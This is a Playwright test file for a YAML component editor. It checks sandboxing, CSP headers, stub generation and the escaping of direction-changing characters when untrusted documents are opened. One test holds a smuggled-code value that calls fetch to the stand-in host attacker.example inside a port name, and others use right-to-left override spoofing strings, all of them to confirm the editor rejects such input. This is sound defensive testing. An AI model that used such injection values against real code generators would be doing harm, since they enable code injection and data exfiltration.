// Issue 11: safe with untrusted documents (items 1–3, 8, 11).
import { expect, test, type Page, type Response } from '@playwright/test';
import { serializeProject } from '../src/modules/project.ts';
import { Editor, fastRay } from './pages/editor.ts';

const PROBE_MODEL = `plugboard:
  process:
    args:
      components:
      - type: probe.Probe
        args:
          name: probe
      connectors: []
`;

/** A module whose top level reports which powerful globals it can see, then stops (its error is the report). */
const PROBE_MODULE = `import { componentClass } from 'plugboard';
const g = globalThis as Record<string, unknown>;
const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'indexedDB', 'caches', 'Worker', 'BroadcastChannel'];
throw new Error('probe ' + names.map((n) => n + '=' + typeof g[n]).join(' '));
export class Probe extends componentClass({ outputs: {} }) {}
`;

async function openFile(page: Page, name: string, text: string): Promise<void> {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Open', exact: true }).click();
  await (await chooser).setFiles({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(text) });
}

test('user code in workers has no network or storage; page and workers are served with a CSP', async ({ page }) => {
  const responses: Response[] = [];
  const remote: string[] = [];
  page.on('response', (r) => responses.push(r));
  page.on('request', (r) => {
    if (!/^(http:\/\/localhost[:/]|data:|blob:)/.test(r.url())) remote.push(r.url());
  });
  const ed = new Editor(page);
  await ed.open();
  const html = responses.find((r) => r.request().resourceType() === 'document');
  const pagePolicy = (await html!.allHeaders())['content-security-policy'] ?? '';
  expect(pagePolicy).toContain("default-src 'self'");
  expect(pagePolicy).toContain("img-src 'self' data: blob:");
  expect(pagePolicy).not.toMatch(/script-src[^;]*(https?:|\*|'unsafe-eval')/);

  await openFile(page, 'probe.plugboard.json', serializeProject({ modelFile: 'probe.yaml', yaml: PROBE_MODEL, modules: [{ file: 'probe.ts', source: PROBE_MODULE }] }));
  await page.getByRole('tab', { name: 'Modules' }).click();
  const modules = page.getByRole('region', { name: 'Modules' });
  await expect(modules).toContainText('Not loaded yet: probe.ts');
  await modules.getByRole('button', { name: 'Load types now' }).click();
  const problems = modules.getByRole('region', { name: 'Module problems' });
  await expect(problems).toContainText('probe fetch=undefined XMLHttpRequest=undefined WebSocket=undefined EventSource=undefined indexedDB=undefined caches=undefined Worker=undefined BroadcastChannel=undefined');

  const worker = responses.find((r) => /modules\.worker/.test(r.url()));
  expect(worker, 'the modules worker script was loaded').toBeTruthy();
  const workerPolicy = (await worker!.allHeaders())['content-security-policy'] ?? '';
  // No network but the app's own Pyodide files (Python components load them from this origin).
  expect(workerPolicy).toMatch(/connect-src http:\/\/localhost:\d+\/pyodide\/ https:\/\/localhost:\d+\/pyodide\/;/);
  expect(workerPolicy).toContain("default-src 'none'");
  expect(remote).toEqual([]);
});

test('modules belong to one document: New drops them, and asks first when there is unsaved work', async ({ page }) => {
  const ed = new Editor(page);
  await ed.open();
  await openFile(page, 'probe.plugboard.json', serializeProject({ modelFile: 'probe.yaml', yaml: PROBE_MODEL, modules: [{ file: 'probe.ts', source: PROBE_MODULE }] }));
  await page.getByRole('tab', { name: 'Modules' }).click();
  const modules = page.getByRole('region', { name: 'Modules' });
  await expect(modules.getByRole('button', { name: 'probe.ts', exact: true })).toBeVisible();

  // Unsaved work: New asks; dismissing keeps the document and its module.
  await page.getByRole('tab', { name: 'YAML' }).click();
  await ed.typeYamlAtEnd('# my note\n');
  await expect.poll(() => ed.yaml.textContent()).toMatch(/my.note/);
  let asked = '';
  page.once('dialog', (d) => {
    asked = d.message();
    void d.dismiss();
  });
  await ed.button('New').click();
  expect(asked).toContain('unsaved changes');
  await page.getByRole('tab', { name: 'Modules' }).click();
  await expect(modules.getByRole('button', { name: 'probe.ts', exact: true })).toBeVisible();

  page.once('dialog', (d) => void d.accept());
  await ed.button('New').click();
  await expect(modules).toContainText('No modules');
  await expect(ed.page.getByTestId('file-name')).toHaveText('model.yaml');
});

test('Create stubs refuses port names that are not identifiers, with the place; stubs wait for approval', async ({ page }) => {
  const ed = new Editor(page);
  await ed.open();
  await ed.button('New').click();
  const hostile = `plugboard:
  process:
    args:
      components:
      - type: evil.Thing
        args:
          name: thing
          initial_values:
            "x\\nfetch('http://attacker.example/') //": [1]
      connectors: []
`;
  await ed.pasteYaml(hostile);
  await expect(ed.node('thing')).toBeVisible();
  await page.getByRole('tab', { name: 'Modules' }).click();
  const modules = page.getByRole('region', { name: 'Modules' });
  await modules.getByRole('button', { name: /Create stubs/ }).click();
  const alert = page.getByRole('alert').filter({ hasText: 'Skipped' });
  await expect(alert).toContainText('is not an identifier');
  await expect(alert).toContainText('model.yaml:9:13');
  await expect(modules).toContainText('No modules');

  await page.getByRole('tab', { name: 'YAML' }).click();
  await ed.pasteYaml(hostile.replace(`"x\\nfetch('http://attacker.example/') //"`, 'x'));
  await expect(ed.yaml).not.toContainText('not an identifier');
  await page.getByRole('tab', { name: 'Modules' }).click();
  await modules.getByRole('button', { name: /Create stubs/ }).click();
  await expect(modules.getByRole('button', { name: 'evil.ts', exact: true })).toBeVisible();
  // Generated code is not run until the user approves it.
  await expect(modules).toContainText('Not loaded yet: evil.ts');
});

test('a run is a snapshot: edits, Undo and the mode switch stay live, and the run says what it runs', async ({ page }) => {
  const ed = new Editor(page);
  await ed.open();
  await ed.button('New').click();
  await ed.pasteYaml(fastRay(0.5, 1));
  await expect(ed.node('timestamper')).toBeVisible();
  await ed.run('Parallel');
  await expect(ed.button('Stop')).toBeEnabled();
  await expect(page.getByTestId('run-snapshot')).toContainText('(Parallel)');
  await expect(ed.button('Undo')).toBeEnabled();
  await expect(ed.button('Local')).toBeEnabled();
  await ed.button('Local').click();
  await expect(ed.button('Local')).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByTestId('run-snapshot')).toContainText('(Parallel)');
  // Ctrl+Z on the canvas does what the Undo button does: undoes the mode switch.
  await ed.canvas.locator('.react-flow__pane').click({ position: { x: 5, y: 5 } });
  await page.keyboard.press('ControlOrMeta+z');
  await expect(ed.button('Parallel')).toHaveAttribute('aria-pressed', 'true');
  await ed.button('Stop').click();
  await ed.waitFinished();
});

test('invisible characters in names are shown escaped; long download names are cut with the full path on hover', async ({ page }) => {
  const ed = new Editor(page);
  await ed.open();
  await openFile(page, 'report\u202Eslx.csv.yaml', fastRay().replace('path: "ray.csv"', `path: "${'d'.repeat(380)}/out.csv"`));
  await expect(page.getByTestId('file-name')).toHaveText('report\\u{202E}slx.csv.yaml');
  await ed.run('Local');
  await ed.waitFinished();
  const button = ed.button('Download out.csv');
  await expect(button).toBeVisible();
  expect((await button.boundingBox())!.width).toBeLessThan(300);
  await expect(button).toHaveAttribute('title', new RegExp(`^${'d'.repeat(380)}/out\\.csv`));
  const toolbar = (await page.getByRole('region', { name: 'Output' }).boundingBox())!;
  expect((await button.boundingBox())!.x + (await button.boundingBox())!.width).toBeLessThanOrEqual(toolbar.x + toolbar.width);
});

test('a type or name with a right-to-left override cannot spoof node labels; the type is rejected at its place', async ({ page }) => {
  const ed = new Editor(page);
  await ed.open();
  await ed.button('New').click();
  await ed.pasteYaml('plugboard:\n  process:\n    args:\n      components:\n      - type: "evil.Th\u202Eing"\n        args:\n          name: spoof\n      connectors: []\n');
  const node = ed.node('spoof');
  await expect(node).toBeVisible();
  await expect(node.locator('.component-node__class')).toContainText('Th\\u{202E}ing');
  expect(await node.locator('.component-node__class').textContent()).not.toContain('\u202E');
  await expect(ed.yaml.getByRole('region', { name: 'Problems' })).toContainText("Component type 'evil.Th\\u{202E}ing' holds invisible or direction-changing characters");
  await expect(ed.yaml.getByRole('region', { name: 'Problems' })).toContainText('5:15');
});
